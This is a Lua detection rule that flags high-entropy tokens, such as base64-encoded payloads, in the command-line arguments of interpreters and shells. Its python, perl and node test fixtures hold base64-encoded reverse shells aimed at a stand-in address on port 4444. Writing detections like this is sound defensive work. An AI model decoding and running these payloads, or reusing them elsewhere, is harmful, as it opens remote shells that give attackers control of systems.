-- A long, high-entropy token in the arguments of an interpreter or shell:
-- an encoded or encrypted payload handed over on the command line.
local K = kestrel
local find, sub, format = string.find, string.sub, string.format

local MIN_LEN = 32         -- shortest token considered, in bytes
local MIN_ENTROPY = 4.8    -- bits per byte
local MAX_SCAN = 8192      -- bytes of arguments looked at per event
local MAX_SAMPLE = 2048    -- bytes of a token whose entropy is measured
local MAX_MEASURED = 8192  -- bytes measured per event, over all tokens

-- Tokens are runs of bytes other than whitespace, quotes, brackets and
-- statement punctuation, so `exec(b64decode('aW1w...'))` yields the payload.
local TOKEN = "()[^%s'\"`(),;{}%[%]]+()"

-- The most entropic long token of the arguments: entropy, token, arg index.
-- Work is bounded per event: MAX_SCAN bytes of arguments tokenised (a few
-- VM instructions per token), MAX_MEASURED bytes of tokens measured.
local function best_token(args)
  local best_h, best_tok, best_arg = 0, nil, nil
  local scan, measure = MAX_SCAN, MAX_MEASURED
  for i = 2, #args do -- args[1] is the program
    local a = args[i]
    if type(a) == "string" then
      if #a > scan then a = sub(a, 1, scan) end
      scan = scan - #a
      if #a >= MIN_LEN then
        for s, e in a:gmatch(TOKEN) do
          local len = e - s
          if len >= MIN_LEN then
            if len > MAX_SAMPLE then len = MAX_SAMPLE end
            if len > measure then return best_h, best_tok, best_arg end
            measure = measure - len
            local tok = sub(a, s, s + len - 1)
            local h = K.entropy(tok)
            if h > best_h then best_h, best_tok, best_arg = h, tok, i - 1 end
          end
        end
      end
      if scan <= 0 then break end
    end
  end
  return best_h, best_tok, best_arg
end

local function proc(args, exe)
  return {
    event = { category = "process", type = "start", action = "exec" },
    process = { name = args[1], executable = exe, args = args, args_count = #args,
      command_line = table.concat(args, " "), parent = { name = "bash" } },
    user = { name = "www-data" },
  }
end

rule {
  id = "kestrel-lua-high-entropy-interpreter-argument",
  name = "High-entropy token in an interpreter's arguments",
  severity = "medium",
  tags = { "attack.defense_evasion", "attack.t1027", "attack.execution", "attack.t1059" },
  description = [[
An interpreter (python, perl, php, ruby, node, lua) or a shell started with
an argument holding a token of at least 32 bytes whose Shannon entropy is at
least 4.8 bits per byte: base64, compressed or encrypted data handed over on
the command line (`python3 -c "exec(b64decode('aW1w...'))"`, `perl -e
'eval(decode_base64("dXNl..."))'`). Tokens are the runs between whitespace,
quotes, brackets, commas and semicolons, so the payload is measured apart
from the code around it. Ordinary text, paths and hex digests stay below the
threshold (English about 4.2, a long path about 4.3, a SHA-256 in hex
about 3.8); base64 of a few hundred bytes reaches 5.5 to 6.
The EQL function lua.entropy(s) returns the entropy of a string's first
16 KiB (null for null), e.g. `process where lua.entropy(process.command_line) > 5.2`.
False positives: scripts given API tokens, JWTs or signed URLs as
arguments (a JWT is about 5.3); exclude them by process.executable or by
the script's path in the prefilter.
]],
  prefilter = [[
process where event.type == "start" and
  process.name : ("python*", "perl*", "php*", "ruby*", "node", "nodejs", "lua*",
                  "bash", "sh", "dash", "zsh", "ksh") and
  length(process.command_line) > 40
]],
  fields = { "process.args", "process.name", "process.executable" },
  match = function(e)
    local args = e["process.args"]
    if type(args) ~= "table" then return false end
    local h, tok, arg = best_token(args)
    if h < MIN_ENTROPY then return false end
    local preview = #tok > 48 and (sub(tok, 1, 48) .. "...") or tok
    return {
      reason = format("%s argument %d holds a %d-byte token of entropy %.2f",
        tostring(e["process.name"]), arg, #tok, h),
      data = { entropy = tonumber(format("%.3f", h)), length = #tok, arg_index = arg,
        token = preview, executable = e["process.executable"] },
    }
  end,
  tests = {
    { name = "python exec of a base64 payload alerts", expect = 1, events = {
      proc({ "python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgnMjAzLjAuMTEzLjcnLDQ0NDQpKTtbb3MuZHVwMihzLmZpbGVubygpLGYpIGZvciBmIGluICgwLDEsMildO3B0eS5zcGF3bignL2Jpbi9iYXNoJyk='))" },
        "/usr/bin/python3.11"),
    } },
    { name = "perl eval of decode_base64 alerts", expect = 1, events = {
      proc({ "perl", "-MMIME::Base64", "-e", "eval(decode_base64(\"dXNlIFNvY2tldDskaT0iMjAzLjAuMTEzLjciOyRwPTQ0NDQ7c29ja2V0KFMsUEZfSU5FVCxTT0NLX1NUUkVBTSxnZXRwcm90b2J5bmFtZSgidGNwIikpO2lmKGNvbm5lY3QoUyxzb2NrYWRkcl9pbigkcCxpbmV0X2F0b24oJGkpKSkpe29wZW4oU1RESU4sIj4mUyIpO29wZW4oU1RET1VULCI+JlMiKTtvcGVuKFNUREVSUiwiPiZTIik7ZXhlYygiL2Jpbi9zaCAtaSIpO307\"))" },
        "/usr/bin/perl"),
    } },
    { name = "node eval of a Buffer.from base64 payload alerts", expect = 1, events = {
      proc({ "node", "-e", "eval(Buffer.from('KGZ1bmN0aW9uKCl7dmFyIG5ldD1yZXF1aXJlKCduZXQnKSxjcD1yZXF1aXJlKCdjaGlsZF9wcm9jZXNzJyksc2g9Y3Auc3Bhd24oJy9iaW4vc2gnLFtdKTt2YXIgY2xpZW50PW5ldyBuZXQuU29ja2V0KCk7Y2xpZW50LmNvbm5lY3QoNDQ0NCwnMjAzLjAuMTEzLjcnLGZ1bmN0aW9uKCl7Y2xpZW50LnBpcGUoc2guc3RkaW4pO3NoLnN0ZG91dC5waXBlKGNsaWVudCk7c2guc3RkZXJyLnBpcGUoY2xpZW50KTt9KTtyZXR1cm4gL2EvO30pKCk7','base64').toString())" },
        "/usr/local/bin/node"),
    } },
    { name = "an ordinary one-liner does not alert", expect = 0, events = {
      proc({ "python3", "-c", "print('hello world, this is a long but ordinary string of text')" },
        "/usr/bin/python3.11"),
    } },
    { name = "a long module path does not alert", expect = 0, events = {
      proc({ "python3", "/usr/lib/python3/dist-packages/ansible_collections/community/general/plugins/modules/system.py" },
        "/usr/bin/python3.11"),
    } },
    { name = "a SHA-256 digest argument does not alert", expect = 0, events = {
      proc({ "python3", "verify.py", "--sha256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08" },
        "/usr/bin/python3.11"),
    } },
    { name = "a short random nonce does not alert", expect = 0, events = {
      proc({ "ruby", "client.rb", "--server", "api.internal", "--nonce", "BwgJCgsMDQ4PEBESExQVFhcY" },
        "/usr/bin/ruby3.1"),
    } },
  },
}

-- lua.entropy(s): measured over the first 16 KiB (about 70,000 instructions
-- at most), so an attacker's megabyte-long command line cannot make the
-- function overrun its budget and be quarantined.
func("entropy", function(s)
  if s == nil then return nil end
  s = tostring(s)
  if #s > 16384 then s = sub(s, 1, 16384) end
  return K.entropy(s)
end)
